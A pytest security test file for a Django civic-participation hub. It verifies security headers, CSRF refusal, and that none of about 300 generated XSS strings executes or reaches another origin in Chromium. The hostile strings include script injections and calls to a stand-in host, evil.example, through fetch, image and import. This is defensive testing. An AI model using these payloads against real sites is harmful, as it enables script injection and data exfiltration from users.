"""T16: headers on every page, error and file; no script of a stranger runs; nothing leaves the hub.

Pass bars (TRUST.md section 4): a content policy without unsafe-inline and unsafe-eval on everything;
nosniff, Referrer-Policy, COOP, CORP, Permissions-Policy, frame-ancestors none; ``no-store`` when signed
in; in Chromium 0 violations and 0 requests to another origin over 30 pages; 300 hostile strings in
every text field, 0 executed. Control: the same pages drawn without escaping are caught.
"""

from __future__ import annotations

import itertools
import re
import uuid
from collections import deque
from collections.abc import Iterator, Sequence
from dataclasses import replace
from datetime import date
from html import unescape
from typing import Any

import pytest
from django.contrib.staticfiles import finders
from django.test import Client
from django.utils.safestring import SafeString

from baithak.budget.models import Project, ProjectWording
from baithak.dialogue import services as dialogues
from baithak.exchange.models import (
    Adoption,
    AdoptionStep,
    Answer,
    Lesson,
    Practice,
    Question,
    Resource,
    Translation,
    Version,
)
from baithak.exchange.records import FIELDS, Source
from baithak.exchange.records.stored import TRANSLATED, plain
from baithak.exchange.services.notes import touched
from baithak.network import services as network
from baithak.network.scope import SYSTEM
from factories import network as make
from factories import things
from factories.levelled import rows
from factories.practices import SUNRISE

pytestmark = [pytest.mark.trust, pytest.mark.django_db]

BASES = [
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>",
    "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>", "<iframe src=javascript:{}>",
    "<a href=javascript:{}>here</a>", "<details open ontoggle={}>", "<video><source onerror={}>",
    "<input autofocus onfocus={}>", "<math><mtext><img src=x onerror={}></mtext></math>",
    "<object data=javascript:{}>", "<embed src=javascript:{}>", "<form action=javascript:{}><button>",
    "\" onmouseover={} x=\"", "' onfocus={} autofocus x='", "\"><script>{}</script>",
    "'><svg onload={}>", "</title><script>{}</script>", "</textarea><script>{}</script>",
    "</style><script>{}</script>", "-->{}<!--<script>{}</script>", "<scr<script>ipt>{}</script>",
    "{{{{{}}}}}", "${{{}}}", "<%= {} %>", "<template><script>{}</script></template>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<link rel=stylesheet href=//evil.example>",
]  # fmt: skip
CALLS = [
    "window.hit=1", "alert(1)", "top.hit=1", "self['hit']=1", "eval('window.hit=1')", "document.title='hit'",
    "fetch('//evil.example')", "new Image().src='//evil.example'", "setTimeout('window.hit=1')",
    "import('//evil.example/x.js')",
]  # fmt: skip
HOSTILE = [base.replace("{}", call) for base in BASES for call in CALLS]

HEADERS = {
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": ("same-origin", "no-referrer"),
    "Cross-Origin-Opener-Policy": "same-origin",
    "Cross-Origin-Resource-Policy": "same-origin",
    "X-Frame-Options": "DENY",
}


#: Whose static files are the hub's own.
ROOMS = (
    "web/", "dialogue/", "network/", "exchange/", "plan/", "coordination/", "home/", "journal/", "mfa/",
)  # fmt: skip


def faults(response, *, signed_in: bool) -> list[str]:
    """What is wrong with the headers of this answer."""
    wrong = []
    policy = response.get("Content-Security-Policy", "")
    parts = dict(part.strip().partition(" ")[::2] for part in policy.split(";") if part.strip())
    if parts.get("default-src") != "'none'" or parts.get("frame-ancestors") != "'none'":
        wrong.append("policy is not closed by default")
    if parts.get("base-uri") != "'none'" or parts.get("form-action") != "'self'":
        wrong.append("policy lets base or forms elsewhere")
    if re.search(r"unsafe-|\*|http:|https:", policy):
        wrong.append(f"policy is open: {policy}")
    for name, wanted in HEADERS.items():
        allowed = wanted if isinstance(wanted, tuple) else (wanted,)
        if response.get(name) not in allowed:
            wrong.append(f"{name}: {response.get(name)}")
    if "camera=()" not in response.get("Permissions-Policy", ""):
        wrong.append("no Permissions-Policy")
    if signed_in and "no-store" not in response.get("Cache-Control", ""):
        wrong.append("kept by the browser of somebody signed in")
    return wrong


def links(html: str) -> list[str]:
    found = re.findall(r'(?:href|src|action|hx-get)="([^"#]+)', html)
    return [unescape(link).split("#")[0] for link in found if link.startswith("/")]


def finish(response) -> None:
    """Read a file to its end, so that the test client closes it."""
    if response.streaming:
        for _ in response.streaming_content:
            pass


def crawl(client: Client, first: Sequence[str] = (), most: int = 400):
    """The first pages, then every page that links lead to, once: (path, response); never signing out."""
    start = [*first, "/en/"]
    waiting, seen, told = deque(start), set(start), 0
    while waiting and (told < len(start) or len(seen) <= most):
        path, told = waiting.popleft(), told + 1
        response = client.get(path)
        yield path, response
        finish(response)
        if "text/html" in response.get("Content-Type", "") and not response.streaming:
            for link in links(response.content.decode()):
                if link not in seen and "logout" not in link:
                    seen.add(link)
                    waiting.append(link)


TODAY = date(2026, 11, 24)


def hostile_record(code: str, start: int) -> Any:
    """A practice with hostile strings in every text: from this one on, all that its fields hold."""
    at = iter(range(start, start + 1_000))

    def some(count: int) -> tuple[str, ...]:
        return tuple(HOSTILE[next(at) % len(HOSTILE)] for _ in range(count))

    told: dict[str, Any] = {}
    for field in FIELDS:
        if field.kind in ("line", "text"):
            (told[field.name],) = some(1)
        elif field.kind in ("texts", "partners"):
            told[field.name] = some(25)
    sources = tuple(
        Source(f"https://evil.example/{n}?<script>", *some(2), TODAY) for n in range(20)
    )
    return replace(SUNRISE, id=code, start_year=2020, end_year=2021, sources=sources, **told)


def hostile_practice(place: Any, code: str, state: str, start: int) -> Practice:
    """A practice in this state, with its words in two other languages."""
    made = Practice._unscoped.create(place=place, code=code, visibility="hub")
    out = state != "review"
    version = Version._unscoped.create(
        practice=made, number=1, state="published" if out else "review", aim="" if out else "public",
        data=plain(hostile_record(code, start)), note=HOSTILE[start], reviewer=place,
        review=HOSTILE[start + 1], reviewed_on=TODAY, published_on=TODAY if out else None,
        level="public" if out else "",
    )  # fmt: skip
    made.state = state
    if out:
        made.current, made.published_on, made.changed_on = version, TODAY, TODAY
        made.visibility = "public"
    made.retired_because = HOSTILE[start + 2] if state == "retired" else ""
    made.save()
    for n, language in enumerate(("ur", "bn")):
        record = hostile_record(code, start + 40 * (n + 1))
        texts = {name: getattr(record, name) for name in TRANSLATED}
        Translation._unscoped.create(
            practice=made, language=language, texts=texts, of_version=1, status="reviewed"
        )
    touched(made)
    return made


def hostile_exchange(city: Any, other: Any) -> Iterator[Any]:
    """What the exchange holds, by its rows: practices, an adoption, a question, a lesson, a link."""
    practice = hostile_practice(city, "lamps", "published", 0)
    yield practice
    yield practice.current
    yield hostile_practice(city, "wells", "retired", 150)
    yield hostile_practice(city, "walks", "review", 60)
    taken = hostile_practice(other, "elsewhere", "published", 200)
    adoption = Adoption._unscoped.create(
        place=city, practice=taken, visibility="public", state="finished", outcome="failed",
        because_text=HOSTILE[11], reason=HOSTILE[12], changed=HOSTILE[13], result=HOSTILE[14], lesson=HOSTILE[15],
    )  # fmt: skip
    AdoptionStep._unscoped.bulk_create(
        AdoptionStep(adoption=adoption, day=TODAY, text=text) for text in HOSTILE
    )
    yield adoption
    for told in (
        {"challenge": SUNRISE.challenges[0], "visibility": "hub"},
        {"practice": practice, "to_place": city, "place": other},
    ):
        question = Question._unscoped.create(
            text=HOSTILE[16], asked=TODAY, answered=TODAY, **{"place": city, **told}
        )
        Answer._unscoped.bulk_create(
            Answer(question=question, by_place=place, text=text, day=TODAY)
            for place, text in zip((city, other) * 10, HOSTILE[::15], strict=True)
        )
        yield question
    lesson = Lesson._unscoped.create(
        place=city, visibility="public", title=HOSTILE[17], text=HOSTILE[18], practice=practice,
        adoption=adoption, challenges=list(SUNRISE.challenges), day=TODAY,
    )  # fmt: skip
    touched(lesson)
    yield lesson
    for n, text in enumerate(HOSTILE[::10]):
        resource = Resource._unscoped.create(
            place=city, visibility="public", title=text, about=HOSTILE[n], publisher=HOSTILE[n + 1],
            licence=HOSTILE[n + 2], url=f"https://evil.example/{n}", added_on=TODAY, step="mapping",
        )  # fmt: skip
        touched(resource)
    yield resource


def hostile_budgets(city: Any) -> Iterator[str]:
    """One that takes proposals, with three hundred texts, and one with a result."""
    for state, text in (("open", HOSTILE[19]), ("closed", HOSTILE[20])):
        made = things.budget(city, state, "public", text, mark="" if state == "open" else "frozen")
        things.parts(made, text)
        if state == "open":
            many = Project._unscoped.bulk_create(
                Project(budget=made, number=n + 2, state="proposed", source="resident", received=TODAY)
                for n in range(100)
            )  # fmt: skip
            ProjectWording._unscoped.bulk_create(
                ProjectWording(
                    project=project, language="en", kind="original", title=HOSTILE[n][:100],
                    description=HOSTILE[n + 100], landmark=HOSTILE[n + 200][:120],
                )
                for n, project in enumerate(many)
            )  # fmt: skip
        yield from (f"/en/b/{made.code}/", f"/en/budget/{made.code}/")
        yield from (f"/en/b/{made.code}/projects/", f"/en/b/{made.code}/projects/1/")


def hostile_panels(city: Any) -> Iterator[str]:
    """One that takes registrations, one whose draw is written down."""
    for draw, text in (("", HOSTILE[21]), ("committed", HOSTILE[0])):
        made = things.panel(city, "open", "public", text, draw=draw)
        yield from (f"/en/p/{made.code}/", f"/en/panel/{made.code}/", f"/en/p/{made.code}/draw/")


def hostile_rooms(city: Any) -> Iterator[str]:
    """Every noun of plans and coordination, open to everybody, with hostile words in every text of it."""
    words = itertools.cycle(HOSTILE)
    for thing in rows(city, "public", lambda name: next(words)):
        yield thing.get_absolute_url()


@pytest.fixture
def world(settings):
    """A city with people, an open dialogue, and hostile strings in every text field."""
    settings.WHITENOISE_USE_FINDERS = True
    settings.WHITENOISE_AUTOREFRESH = True
    city = make.city()
    people = make.staffed(city)
    city.name, city.names, city.note = HOSTILE[0][:120], {"ur": HOSTILE[1]}, HOSTILE[2]
    city.save()
    officer = make.viewer(people["city_officer"])
    for n, text in enumerate(HOSTILE):
        network.add_organisation(place=city, name=f"{n} {text}"[:120], types=["cso"], by=SYSTEM)
    texts = {
        language: {
            "title": HOSTILE[n][:120],
            "question": HOSTILE[n + 50],
            "description": HOSTILE[n + 99],
        }
        for n, language in enumerate(("en", "ur", "bn"))
    }
    seeds = [{"en": (f"{n} " + text)[:140]} for n, text in enumerate(HOSTILE)]
    dialogue = dialogues.create(place=city, texts=texts, seeds=seeds, by=officer)
    draft = dialogues.create(place=city, texts=texts, seeds=seeds[:3], by=officer)
    dialogues.ask_to_open(dialogue=draft, reason=HOSTILE[7], by=officer)
    asked = dialogues.ask_to_open(dialogue=dialogue, reason=HOSTILE[8], by=officer)
    network.confirm_two_person(act=asked, by=make.viewer(people["mayor"]))
    dialogue.refresh_from_db()
    for n, text in enumerate(HOSTILE):
        told = (f"{n + 1000} " + text)[:140]
        dialogues.submit(dialogue=dialogue, text=told, language="en", handle=uuid.uuid4())
    make.person(name=HOSTILE[3][:100], email="hostile@city.example")
    make.grant(make.person(name=HOSTILE[4][:100], email="member@city.example"), city, "partner")
    other = make.city(city.parent, HOSTILE[5][:120], slug="other")
    pages = [thing.get_absolute_url() for thing in hostile_exchange(city, other)]
    pages += [*hostile_budgets(city), *hostile_panels(city), *hostile_rooms(city)]
    return {"city": city, "people": people, "dialogue": dialogue, "pages": pages}


def test_headers_of_every_page_error_and_file(world):
    seen, wrong = 0, []
    browsers = {
        "nobody": Client(),
        **{role: make.sign_in(user) for role, user in world["people"].items()},
    }
    for role, client in browsers.items():
        signed_in = role != "nobody"
        for path, response in crawl(client, world["pages"]):
            seen += 1
            wrong += [
                f"{role} {path}: {fault}"
                for fault in faults(
                    response, signed_in=signed_in and not path.startswith("/static/")
                )
            ]
        for path in ("/en/nowhere/", "/en/d/nothing/", "/health", "/en/dialogue/zzzzzzz/"):
            seen += 1
            wrong += [
                f"{role} {path}: {fault}" for fault in faults(client.get(path), signed_in=signed_in)
            ]
    files = [
        path
        for finder in finders.get_finders()
        for path, _ in finder.list([])
        if path.startswith(ROOMS)
    ]
    for path in files:
        response = Client().get(f"/static/{path}")
        assert response.status_code == 200, path
        seen += 1
        wrong += [f"/static/{path}: {fault}" for fault in faults(response, signed_in=False)]
        finish(response)
    assert wrong == []
    assert seen >= 200
    assert len(files) >= 4


def test_a_weaker_policy_is_caught(world, settings):
    """Control: one unsafe word in the policy, and the test above fails."""
    settings.CONTENT_SECURITY_POLICY = {
        "DIRECTIVES": {"default-src": ["'none'"], "script-src": ["'self'", "'unsafe-inline'"]}
    }
    assert any("open" in fault for fault in faults(Client().get("/en/"), signed_in=False))


def test_forms_refuse_another_site(world):
    """Every writing page refuses a post without the hub's own proof."""
    client = Client(enforce_csrf_checks=True)
    make.sign_in(world["people"]["city_officer"], client)
    for path in (
        "/en/dialogue/new/",
        f"/en/dialogue/{world['dialogue'].code}/close/",
        "/en/me/sign-out-everywhere/",
    ):
        assert client.post(path, {}).status_code == 403


def hits(page, address: str, outside: list[str]) -> list[str]:
    """Open the page; say what ran, what the browser's policy stopped, what was asked elsewhere."""
    told: list[str] = []
    page.on("dialog", lambda dialog: (told.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.goto(address, wait_until="load")
    if page.evaluate("window.hit === 1 || document.title === 'hit'"):
        told.append("executed")
    told += page.evaluate("window.violations || []")
    return [f"{address}: {what}" for what in told]


def is_page(response) -> bool:
    return response.status_code == 200 and "text/html" in response.get("Content-Type", "")


RECORDER = (
    "window.violations = [];"
    "addEventListener('securitypolicyviolation', e => window.violations.push("
    "e.violatedDirective + ' ' + e.blockedURI));"
)


@pytest.fixture
def browser(chromium, monkeypatch):
    from playwright.sync_api import sync_playwright

    # Playwright runs a loop of its own in this thread; the database is not used from within it.
    monkeypatch.setenv("DJANGO_ALLOW_ASYNC_UNSAFE", "true")
    with (
        sync_playwright() as play,
        play.chromium.launch(
            executable_path=chromium, args=["--no-sandbox", "--disable-gpu"]
        ) as chrome,
    ):
        yield chrome


def opened(browser, live_server, outside: list[str], user=None):
    context = browser.new_context(service_workers="block")
    context.add_init_script(RECORDER)
    if user is not None:
        client = make.sign_in(user)
        context.add_cookies(
            [
                {"name": name, "value": morsel.value, "url": live_server.url}
                for name, morsel in client.cookies.items()
            ]
        )

    def watch(route):
        if not route.request.url.startswith(live_server.url + "/"):
            outside.append(route.request.url)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", watch)
    return context.new_page()


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_nothing_hostile_runs_in_a_browser(world, browser, live_server):
    outside: list[str] = []
    wrong, opened_at = [], set()
    for role in (None, "city_officer", "moderator"):
        user = world["people"][role] if role else None
        client = make.sign_in(user) if user else Client()
        paths = [
            path
            for path, response in crawl(client, world["pages"], most=60)
            if response.status_code == 200 and "text/html" in response.get("Content-Type", "")
        ]
        page = opened(browser, live_server, outside, user)
        for path in paths[: len(world["pages"]) + 12]:
            opened_at.add((role, path))
            wrong += hits(page, live_server.url + path, outside)
        page.context.close()
    assert wrong == []
    assert outside == []
    assert len(opened_at) >= 60
    assert {("city_officer", path) for path in world["pages"]} <= opened_at


@pytest.mark.browser
@pytest.mark.django_db(transaction=True)
def test_unescaped_text_is_caught(world, browser, live_server, monkeypatch):
    """Control: a page that trusts what people wrote is noticed by the same look."""
    from baithak.network.models import Organisation

    monkeypatch.setattr(Organisation, "__str__", lambda self: SafeString(self.name))
    monkeypatch.setattr(
        Organisation,
        "name",
        property(
            lambda self: SafeString(self.__dict__["name"]),
            lambda self, v: self.__dict__.__setitem__("name", v),
        ),
    )
    outside: list[str] = []
    page = opened(browser, live_server, outside, world["people"]["city_officer"])
    wrong = hits(page, f"{live_server.url}/en/places/{world['city'].slug}/organisations/", outside)
    assert wrong or outside
